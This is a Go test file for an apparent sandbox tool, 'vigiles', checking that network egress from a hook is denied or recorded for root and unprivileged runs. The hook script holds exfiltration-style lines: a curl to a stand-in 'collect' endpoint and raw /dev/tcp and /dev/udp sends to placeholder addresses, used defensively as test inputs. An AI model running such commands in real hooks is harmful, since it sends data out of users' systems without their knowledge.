package escape

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestEgressRecordedForEveryCaller runs a hook that tries the network in
// three ways — a proxy-honouring client, raw TCP that ignores the proxy,
// a raw UDP send — through the vigiles binary in deny and record mode, as
// root and as an unprivileged user. Nothing leaves the sandbox: its
// network namespace has no route out (documentation addresses only).
func TestEgressRecordedForEveryCaller(t *testing.T) {
	requireBwrap(t)
	hook := `curl -s -m 3 http://api.example.test/collect?id=1 >/dev/null
		(echo hi > /dev/tcp/192.0.2.10/4444) 2>/dev/null
		(echo hi > /dev/udp/198.51.100.20/5353) 2>/dev/null
		exit 0`
	for _, r := range runners(t) {
		for _, mode := range []string{"deny", "record"} {
			t.Run(r.name+"/"+mode, func(t *testing.T) {
				dir := workTree(t)
				res := vigilesRaw(t, r, dir, "--egress", mode, "--", "bash", "-c", hook)
				if res.Egress == nil {
					t.Fatal("egress is null on a confined run")
				}
				seen := map[string]bool{}
				for _, e := range res.Egress {
					if e.Allowed {
						t.Errorf("%s mode allowed %+v", mode, e)
					}
					seen[e.Via+" "+e.Host+e.IP] = true
				}
				want := []string{"connect 192.0.2.10", "connect 198.51.100.20"}
				if mode == "deny" {
					want = append(want, "dns api.example.test")
				} else {
					want = append(want, "proxy api.example.test")
				}
				for _, w := range want {
					if !seen[w] {
						t.Errorf("missing %q in %v", w, keys(seen))
					}
				}
			})
		}
	}
}

type egressEntry struct {
	Host    string `json:"host"`
	IP      string `json:"ip"`
	Port    int    `json:"port"`
	Via     string `json:"via"`
	Allowed bool   `json:"allowed"`
}

type egressResult struct {
	Tier   string        `json:"tier"`
	Egress []egressEntry `json:"egress"`
}

func vigilesRaw(t *testing.T, r runner, dir string, args ...string) egressResult {
	t.Helper()
	res := vigiles(t, r, dir, nil, args...)
	var er egressResult
	if err := json.Unmarshal([]byte(res.raw), &er); err != nil {
		t.Fatal(err)
	}
	return er
}

func keys(m map[string]bool) string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return strings.Join(out, ", ")
}
